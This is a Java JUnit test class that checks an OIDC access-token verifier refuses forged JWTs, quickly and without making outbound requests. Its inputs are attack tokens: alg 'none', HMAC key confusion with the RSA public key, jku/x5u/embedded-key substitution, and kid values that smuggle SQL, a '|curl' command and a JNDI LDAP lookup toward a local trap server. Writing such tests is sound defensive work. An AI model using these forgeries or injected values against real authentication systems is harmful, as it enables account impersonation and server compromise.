package org.planisphere.foundation.identity.oidc;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.planisphere.foundation.identity.Recognition;

/**
 * Tokens that somebody forged. None is taken, none makes the node speak to an address that stands in it, and none takes
 * long. The keys are read before each, so a refusal is never for want of them.
 */
class TokenAttackTest {
    private static TestIssuer iam;
    private static TestIssuer egi;
    private static Issuers issuers;
    private static HttpServer trap;
    private static String trapUrl;
    private static RSAKey mallory;
    private static final List<String> caught = new CopyOnWriteArrayList<>();

    @BeforeAll
    static void up() throws Exception {
        iam = TestIssuer.start("iam");
        egi = TestIssuer.start("egi");
        issuers = new Issuers(List.of(iam.settings(), egi.settings()));
        mallory = new RSAKeyGenerator(2048).keyID(iam.rsa().getKeyID()).generate();
        trap = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        byte[] keys = new JWKSet(mallory.toPublicJWK()).toString().getBytes(StandardCharsets.UTF_8);
        trap.createContext("/", exchange -> {
            caught.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(200, keys.length);
            exchange.getResponseBody().write(keys);
            exchange.close();
        });
        trap.start();
        trapUrl = "http://127.0.0.1:" + trap.getAddress().getPort();
        assertThat(issuers.recognise(iam.token("anna"))).isInstanceOf(Recognition.Known.class);
        assertThat(issuers.recognise(egi.token("anna"))).isInstanceOf(Recognition.Known.class);
    }

    @AfterAll
    static void down() {
        issuers.close();
        iam.close();
        egi.close();
        trap.stop(0);
    }

    private static JWTClaimsSet.Builder claims() {
        return iam.claims("anna").claim("groups", List.of("/ops"));
    }

    private static JWSHeader.Builder header() {
        return new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(iam.rsa().getKeyID());
    }

    /** Signed by Mallory's own key. */
    private static String forged(JWSHeader header, JWTClaimsSet.Builder claims) throws Exception {
        SignedJWT jwt = new SignedJWT(header, claims.build());
        jwt.sign(new RSASSASigner(mallory));
        return jwt.serialize();
    }

    private static String raw(String header, String payload, String signature) {
        return Base64URL.encode(header) + "." + Base64URL.encode(payload) + "." + signature;
    }

    private static String mac(byte[] secret, String alg) throws Exception {
        SignedJWT jwt = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.parse(alg))
                        .keyID(iam.rsa().getKeyID())
                        .build(),
                claims().build());
        jwt.sign(new MACSigner(secret));
        return jwt.serialize();
    }

    private static String payload() {
        return claims().build().toString();
    }

    static Stream<Arguments> forgeries() throws Exception {
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.encode(iam.rsa().toRSAPublicKey().getEncoded()) + "\n-----END PUBLIC KEY-----\n";
        String good = iam.token("anna");
        String[] parts = good.split("\\.", -1);
        String deep = "{\"iss\":\"" + iam.url() + "\",\"x\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
        return Stream.of(
                // the signature
                Arguments.of("alg none", raw("{\"alg\":\"none\"}", payload(), "")),
                Arguments.of("alg None", raw("{\"alg\":\"None\"}", payload(), "")),
                Arguments.of("alg none with a signature", raw("{\"alg\":\"none\"}", payload(), parts[2])),
                Arguments.of("no alg", raw("{\"typ\":\"JWT\"}", payload(), parts[2])),
                Arguments.of("alg of a wrong type", raw("{\"alg\":[\"RS256\"]}", payload(), parts[2])),
                Arguments.of("two algs", raw("{\"alg\":\"RS256\",\"alg\":\"none\"}", payload(), "")),
                Arguments.of("no signature", parts[0] + "." + parts[1] + "."),
                Arguments.of(
                        "another payload under a good signature",
                        parts[0] + "." + Base64URL.encode(payload()) + "." + parts[2]),
                Arguments.of("HS256 with the public key as PEM", mac(pem.getBytes(StandardCharsets.US_ASCII), "HS256")),
                Arguments.of(
                        "HS256 with the public key as DER",
                        mac(iam.rsa().toRSAPublicKey().getEncoded(), "HS256")),
                Arguments.of(
                        "HS512 with the modulus", mac(iam.rsa().getModulus().decode(), "HS512")),
                Arguments.of(
                        "HS256 with the key as JSON",
                        mac(iam.rsa().toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8), "HS256")),
                Arguments.of(
                        "an algorithm that is not configured",
                        iam.sign(
                                new JWSHeader.Builder(JWSAlgorithm.RS512)
                                        .keyID(iam.rsa().getKeyID())
                                        .build(),
                                claims())),
                Arguments.of("somebody else's key under the issuer's name of it", forged(header().build(), claims())),
                Arguments.of(
                        "an ECDSA signature of zeros",
                        raw(
                                "{\"alg\":\"ES256\",\"kid\":\"" + iam.ec().getKeyID() + "\"}",
                                payload(),
                                Base64URL.encode(new byte[64]).toString())),
                Arguments.of(
                        "an RSA key's name with ES256",
                        raw(
                                "{\"alg\":\"ES256\",\"kid\":\"" + iam.rsa().getKeyID() + "\"}",
                                payload(),
                                Base64URL.encode(new byte[64]).toString())),
                Arguments.of(
                        "crit",
                        iam.sign(
                                header().criticalParams(Set.of("exp"))
                                        .customParam("exp", 1)
                                        .build(),
                                claims())),
                // where the key is
                Arguments.of(
                        "jku",
                        forged(header().jwkURL(URI.create(trapUrl + "/jku")).build(), claims())),
                Arguments.of(
                        "x5u",
                        forged(
                                header().x509CertURL(URI.create(trapUrl + "/x5u"))
                                        .build(),
                                claims())),
                Arguments.of(
                        "embedded jwk",
                        forged(header().jwk(mallory.toPublicJWK()).build(), claims())),
                Arguments.of(
                        "embedded jwk, no kid",
                        forged(
                                new JWSHeader.Builder(JWSAlgorithm.RS256)
                                        .jwk(mallory.toPublicJWK())
                                        .build(),
                                claims())),
                Arguments.of(
                        "x5c",
                        forged(
                                header().x509CertChain(List.of(Base64.encode("no certificate")))
                                        .build(),
                                claims())),
                Arguments.of(
                        "kid is a path",
                        forged(header().keyID("../../../../dev/null").build(), claims())),
                Arguments.of(
                        "kid is an address",
                        forged(header().keyID(trapUrl + "/kid").build(), claims())),
                Arguments.of(
                        "kid is SQL",
                        forged(header().keyID("x' UNION SELECT 'secret' --").build(), claims())),
                Arguments.of(
                        "kid is a command",
                        forged(header().keyID("|curl " + trapUrl).build(), claims())),
                Arguments.of(
                        "kid is a lookup",
                        forged(
                                header().keyID("${jndi:ldap://127.0.0.1:"
                                                + trap.getAddress().getPort() + "/x}")
                                        .build(),
                                claims())),
                Arguments.of("kid is empty", forged(header().keyID("").build(), claims())),
                // whom it is from and for
                Arguments.of("iss of another issuer", iam.sign(claims().issuer(egi.url()))),
                Arguments.of("iss of nobody", iam.sign(claims().issuer(trapUrl))),
                Arguments.of("iss with a slash", iam.sign(claims().issuer(iam.url() + "/"))),
                Arguments.of(
                        "iss in other letters",
                        iam.sign(claims().issuer(iam.url().replace("http", "HTTP")))),
                Arguments.of("iss missing", iam.sign(claims().issuer(null))),
                Arguments.of("iss is a list", iam.sign(claims().claim("iss", List.of(iam.url())))),
                Arguments.of("aud of others", iam.sign(claims().audience("others"))),
                Arguments.of("aud that begins alike", iam.sign(claims().audience("planisphere.evil"))),
                Arguments.of("aud missing", iam.sign(claims().audience((String) null))),
                Arguments.of("sub missing", iam.sign(claims().subject(null))),
                Arguments.of("sub is a number", iam.sign(claims().claim("sub", 7))),
                Arguments.of("sub with a newline", iam.sign(claims().subject("anna\nroot"))),
                Arguments.of("sub too long", iam.sign(claims().subject("a".repeat(300)))),
                // what it is
                Arguments.of(
                        "typ of a logout token",
                        iam.sign(header().type(new JOSEObjectType("logout+jwt")).build(), claims())),
                Arguments.of(
                        "typ of a DPoP proof",
                        iam.sign(header().type(new JOSEObjectType("dpop+jwt")).build(), claims())),
                Arguments.of("an ID token", iam.sign(claims().claim("typ", "ID"))),
                Arguments.of("an ID token by its hash", iam.sign(claims().claim("at_hash", "x"))),
                Arguments.of("a refresh token", iam.sign(claims().claim("typ", "Refresh"))),
                Arguments.of(
                        "a token within a token",
                        iam.sign(header().contentType("JWT").build(), claims())),
                // when
                Arguments.of(
                        "expired",
                        iam.sign(claims().expirationTime(Date.from(Instant.now().minusSeconds(61))))),
                Arguments.of("never expires", iam.sign(claims().expirationTime(null))),
                Arguments.of("exp is text", iam.sign(claims().claim("exp", "9999999999"))),
                Arguments.of("exp beyond all time", iam.sign(claims().claim("exp", 1e300))),
                Arguments.of("exp is too large a number", iam.sign(claims().claim("exp", Long.MAX_VALUE))),
                Arguments.of(
                        "nbf in an hour",
                        iam.sign(claims().notBeforeTime(Date.from(Instant.now().plusSeconds(3600))))),
                Arguments.of(
                        "iat in an hour",
                        iam.sign(claims().issueTime(Date.from(Instant.now().plusSeconds(3600))))),
                // which groups
                Arguments.of("groups is a number", iam.sign(claims().claim("groups", 7))),
                Arguments.of("groups is an object", iam.sign(claims().claim("groups", Map.of("/ops", true)))),
                Arguments.of("groups holds a list", iam.sign(claims().claim("groups", List.of(List.of("/ops"))))),
                Arguments.of("groups holds a number", iam.sign(claims().claim("groups", List.of("/ops", 7)))),
                Arguments.of("a group with a newline", iam.sign(claims().claim("groups", List.of("/ops\negi|/ops")))),
                Arguments.of("100,000 groups", raw("{\"alg\":\"RS256\"}", payload(), parts[2])),
                Arguments.of(
                        "1,001 groups",
                        iam.sign(claims().claim(
                                        "groups",
                                        IntStream.range(0, 1001)
                                                .mapToObj(i -> "g" + i)
                                                .toList()))),
                Arguments.of("a group of 301 characters", iam.sign(claims().claim("groups", List.of("g".repeat(301))))),
                // no token at all
                Arguments.of("a payload that is no JSON", notJson()),
                Arguments.of("deep nesting", raw("{\"alg\":\"RS256\"}", deep, parts[2])),
                Arguments.of(
                        "deep nesting in the header",
                        raw(
                                "{\"alg\":\"RS256\",\"x\":" + "{\"x\":".repeat(3000) + "1" + "}".repeat(3001),
                                payload(),
                                parts[2])),
                Arguments.of("dots", ".."),
                Arguments.of("four parts", good + ".x"),
                Arguments.of("five parts", good + ".x.y"),
                Arguments.of("oversized", iam.sign(claims().claim("x", "x".repeat(1 << 20))) + "x"));
    }

    private static String notJson() throws Exception {
        JWSObject object = new JWSObject(header().build(), new Payload("not JSON"));
        object.sign(new RSASSASigner(iam.rsa()));
        return object.serialize();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forgeries")
    void isRefusedAtOnceWithoutARequestToAnybody(String what, String token) {
        List<String> askedBefore = iam.asked();
        Recognition[] answer = new Recognition[1];
        org.junit.jupiter.api.Assertions.assertTimeout(
                Duration.ofSeconds(1), () -> answer[0] = issuers.recognise(token));
        assertThat(answer[0]).as(what).isEqualTo(Recognition.UNKNOWN);
        assertThat(caught).as("requests to addresses of the token").isEmpty();
        assertThat(Collections.max(List.of(0, iam.asked().size() - askedBefore.size())))
                .as("at most one look for a new key")
                .isLessThanOrEqualTo(2);
    }

    @Test
    void aGroupOfOneIssuerNeverCountsAsThatOfAnother() {
        // egi says its member is in a group that is called as iam's would be written.
        Recognition.Known known = (Recognition.Known) issuers.recognise(egi.token("mallory", "iam|/ops", "/ops"));
        assertThat(known.caller().groups()).containsExactlyInAnyOrder("egi|iam|/ops", "egi|/ops");
    }
}
